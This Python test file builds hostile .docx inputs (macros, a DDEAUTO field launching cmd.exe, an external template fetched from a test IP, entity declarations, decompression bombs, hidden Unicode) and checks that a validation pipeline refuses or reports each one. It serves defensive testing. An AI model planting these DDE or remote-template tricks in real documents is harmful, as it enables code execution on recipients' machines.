"""Hostile Word forms: documents whose tables lie about their size, hide fields, or reach outside."""

from collections.abc import Callable, Iterator

from corpus.validation.refusal import FileRefusal
from corpus.validation.row import ValidationRule
from tests.corpus.documents.files import MAIN, TYPES, package_of, paragraph, types_of, zip_of
from tests.corpus.hostile.file import KEPT, TITLE, End, HostileFile, Reported
from tests.corpus.sheet.workbooks import CODE

MACRO = "application/vnd.ms-word.document.macroEnabled.main+xml"
FIELD = (
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO c:\\\\cmd.exe "/k calc"</w:instrText>'
    '</w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>%s</w:t></w:r>'
    '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
)
_HEAVY = ("form-swollen", "form-longest", "form-rows")
AWAY = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
    b'Type="http://x/attachedTemplate" Target="http://192.0.2.1/t.dotm" TargetMode="External"/></Relationships>'
)


def row(label: str, value: bytes | str, properties: bytes = b"") -> bytes:
    """Write a label and what stands right of it."""
    content = paragraph(value) if isinstance(value, str) else value
    return b"<w:tr><w:tc>%s</w:tc><w:tc>%s%s</w:tc></w:tr>" % (paragraph(label), properties, content)


def form(*rows: bytes) -> bytes:
    """Write a form that is good but for its further rows."""
    named = (row("机构代码", CODE), row("需求名称", TITLE), row("问题描述", "海边两年就生锈"))
    return b"<w:tbl>" + b"".join(named + rows) + b"</w:tbl>"


def cases() -> Iterator[HostileFile]:
    """List what may come as a Word document."""
    for name, make, end in (*_packages(), *_fields()):
        yield HostileFile(f"{name}.docx", make, end, heavy=name in _HEAVY)


def _packages() -> Iterator[tuple[str, Callable[[], bytes], End]]:
    doctype = b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'
    yield "form", lambda: package_of(form()), KEPT
    yield "form-macros", lambda: package_of(form(), **{"word/vbaProject.bin": b"x"}), FileRefusal.MACROS
    yield "form-macro-type", lambda: zip_of({TYPES: types_of(MACRO), MAIN: b"<a/>"}), FileRefusal.MACROS
    yield "form-cut", lambda: package_of(form())[:-200], FileRefusal.DAMAGED
    yield "form-entities", lambda: zip_of({TYPES: types_of(), MAIN: doctype}), FileRefusal.UNSAFE_XML
    yield "form-nested", lambda: package_of(b"<w:tbl><w:tr><w:tc>" * 80 + form()), FileRefusal.UNSAFE_XML
    yield "form-swollen", lambda: package_of(form() + b"<w:p/>" * 12_000_000), FileRefusal.BOMB
    yield "form-template-away", lambda: package_of(form(), **{"word/_rels/document.xml.rels": AWAY}), KEPT
    yield "form-chunk-away", lambda: package_of(form() + b'<w:altChunk w:id="r1"/>'), KEPT


def _fields() -> Iterator[tuple[str, Callable[[], bytes], End]]:
    wide = b'<w:tcPr><w:gridSpan w:val="99999999999"/></w:tcPr>'
    body = "现状"
    yield "form-dde", lambda: package_of(form(row(body, (FIELD % "x").encode()))), KEPT
    yield "form-wide", lambda: package_of(form(row(body, "x", wide))), KEPT
    yield "form-merged", lambda: package_of(form(row(body, "x", b"<w:tcPr><w:vMerge/></w:tcPr>"))), KEPT
    yield (
        "form-label-thrice",
        lambda: package_of(form(row("需求名称", "乙"), row("需求名称", "丙"))),
        Reported((), ((1, "需求名称", ValidationRule.CONFLICT),) * 2),
    )
    yield (
        "form-day",
        lambda: package_of(form(row("期望完成日期", "1900-02-29"))),
        Reported((), ((1, "期望完成日期", ValidationRule.DATE),)),
    )
    yield (
        "form-turned",
        lambda: package_of(form(row(body, "a\u202eb"))),
        Reported((), ((1, body, ValidationRule.CHARACTERS),)),
    )
    yield (
        "form-long",
        lambda: package_of(form(row(body, "长" * 32_768))),
        Reported((), ((1, body, ValidationRule.LENGTH),)),
    )
    yield "form-longest", lambda: package_of(form(row(body, "长" * 2_100_000))), FileRefusal.BOMB
    yield "form-brackets", lambda: package_of(form(row(body + "（" * 50_000, "x"))), KEPT
    yield (
        "form-blanks",
        lambda: package_of(form(row("成熟度", "TRL" + " " * 50_000 + "x"))),
        Reported((), ((1, "成熟度", ValidationRule.FORMAT),)),
    )
    yield "form-rows", lambda: package_of(form(*[row("甲", "乙")] * 11_000)), FileRefusal.TOO_HEAVY
    yield "form-unseen", lambda: package_of(form(row("\u200b现\u200b状", "x"))), KEPT
